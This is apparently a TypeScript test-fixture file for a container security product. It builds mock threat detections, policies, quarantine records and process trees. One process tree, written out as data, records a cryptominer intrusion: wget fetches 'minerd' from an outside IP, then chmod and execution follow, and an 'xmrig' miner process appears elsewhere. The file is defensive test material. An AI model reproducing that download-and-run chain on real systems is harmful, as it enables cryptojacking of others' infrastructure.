import type {
  PolicyView,
  QuarantineItem,
  StorylineNode,
  StorylineView,
  ThreatDetail,
  ThreatSummary,
} from '@driftlock/protocol';

let counter = 0;
function uuid(n: number): string {
  return `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`;
}

export function threat(patch: Partial<ThreatSummary> = {}): ThreatSummary {
  counter += 1;
  return {
    id: uuid(0x1000 + counter),
    detectedAt: new Date(Date.UTC(2026, 11, 4, 12, 0, counter)).toISOString(),
    commandLine: './minerd',
    engine: 'application_control',
    driftClass: 'new_binary',
    mode: 'protect',
    mitigation: 'killed_quarantined',
    filePath: '/app/minerd',
    podName: 'node-web-app-7c9f',
    namespace: 'prod',
    image: 'registry.example/node-web-app:1.4',
    containerName: 'web',
    node: 'worker-1',
    agentId: uuid(0xa9),
    hostname: 'worker-1',
    status: 'unresolved',
    verdict: null,
    ...patch,
  };
}

export function policyView(patch: Partial<PolicyView> = {}): PolicyView {
  return {
    version: 7,
    default: { enabled: true, mode: 'protect' },
    overrides: [],
    exceptions: [],
    updatedAt: '2026-12-04T10:00:00.000Z',
    updatedBy: 'alice@driftlock.test',
    agentsApplied: 3,
    agentsConnected: 4,
    ...patch,
  };
}

function processNode(
  id: string,
  parent: string | null,
  exe: string,
  args: string[],
  second: number,
): StorylineNode {
  return {
    processId: id,
    parentProcessId: parent,
    storylineId: 'sl-1',
    pid: 100 + second,
    ppid: parent ? 99 + second : 0,
    exe,
    args,
    argsTruncated: false,
    cwd: '/app',
    uid: 0,
    user: 'root',
    startedAt: new Date(Date.UTC(2026, 11, 4, 12, 0, second)).toISOString(),
    exitedAt: null,
    exitCode: null,
    signal: null,
    flags: [],
    containerId: 'c0ffee',
    origin: parent ? null : 'kubectl_exec',
    isThreat: false,
  };
}

/** The reference story: kubectl exec -> bash -> { wget, chmod, ./minerd }. */
export function referenceStoryline(): StorylineView {
  const nodes = [
    processNode('p-root', null, '/usr/bin/runc', ['runc', 'exec'], 0),
    processNode('p-bash', 'p-root', '/bin/bash', ['bash'], 1),
    processNode('p-wget', 'p-bash', '/usr/bin/wget', ['wget', 'http://203.0.113.9/minerd'], 2),
    processNode('p-chmod', 'p-bash', '/bin/chmod', ['chmod', '+x', 'minerd'], 3),
    {
      ...processNode('p-minerd', 'p-bash', '/app/minerd', ['./minerd'], 4),
      isThreat: true,
      exitCode: 137,
      signal: 9,
    },
  ];
  return { storylineId: 'sl-1', origin: 'kubectl_exec', threatProcessId: 'p-minerd', nodes };
}

/**
 * A storyline of `size` processes: a root shell fanning out into worker shells that each run many
 * short commands, with the threat deep in one branch.
 */
export function largeStoryline(size: number): StorylineView {
  const nodes: StorylineNode[] = [
    processNode('p-0', null, '/bin/sh', ['sh', '-c', 'entrypoint.sh'], 0),
  ];
  const workers = 20;
  for (let w = 1; w <= workers; w += 1)
    nodes.push(processNode(`p-${w}`, 'p-0', '/bin/bash', ['bash', `worker-${w}.sh`], w));
  for (let i = nodes.length; i < size; i += 1) {
    const parent = `p-${1 + (i % workers)}`;
    nodes.push(
      processNode(`p-${i}`, parent, '/usr/bin/curl', ['curl', '-s', `http://svc/${i}`], i % 3600),
    );
  }
  const threatIndex = size - 7;
  nodes[threatIndex] = {
    ...nodes[threatIndex],
    exe: '/tmp/xmrig',
    args: ['/tmp/xmrig', '--donate-level=0'],
    isThreat: true,
  };
  return {
    storylineId: 'sl-big',
    origin: 'container_start',
    threatProcessId: `p-${threatIndex}`,
    nodes,
  };
}

export function threatDetail(patch: Partial<ThreatDetail> = {}): ThreatDetail {
  const sha = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
  const at = '2026-12-04T12:00:12.000Z';
  return {
    ...threat({ id: '00000000-0000-4000-8000-00000000beef' }),
    file: { path: '/app/minerd', size: 2_483_712, sha256: sha },
    mitigations: [
      {
        action: 'kill',
        outcome: 'succeeded',
        detail: 'killed in kernel before first instruction',
        at,
        exitCode: 137,
        killedInKernel: true,
        quarantineId: null,
        sha256: null,
        size: null,
      },
      {
        action: 'quarantine',
        outcome: 'succeeded',
        detail: 'moved to quarantine',
        at,
        exitCode: null,
        killedInKernel: false,
        quarantineId: 'q-1',
        sha256: sha,
        size: 2_483_712,
      },
    ],
    container: {
      id: 'c0ffee',
      name: 'web',
      runtime: 'containerd',
      image: 'registry.example/node-web-app:1.4',
      imageDigest: 'sha256:abc',
      startedAt: at,
    },
    kubernetes: {
      podName: 'node-web-app-7c9f',
      podUid: 'uid-1',
      namespace: 'prod',
      podLabels: { app: 'node-web-app', tier: 'frontend' },
      containerName: 'web',
      node: 'worker-1',
      cluster: 'prod',
    },
    storylineId: 'sl-1',
    processId: 'p-minerd',
    agentThreatId: 'threat-1',
    notes: [],
    history: [],
    ...patch,
  };
}

export function quarantineItem(patch: Partial<QuarantineItem> = {}): QuarantineItem {
  return {
    id: '00000000-0000-4000-8000-0000000000f1',
    agentId: '00000000-0000-4000-8000-0000000000a9',
    hostname: 'worker-1',
    threatId: '00000000-0000-4000-8000-00000000beef',
    quarantineId: 'q-1',
    path: '/app/minerd',
    sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    size: 2_483_712,
    status: 'quarantined',
    lastDetail: null,
    createdAt: '2026-12-04T12:00:12.000Z',
    updatedAt: '2026-12-04T12:00:12.000Z',
    ...patch,
  };
}
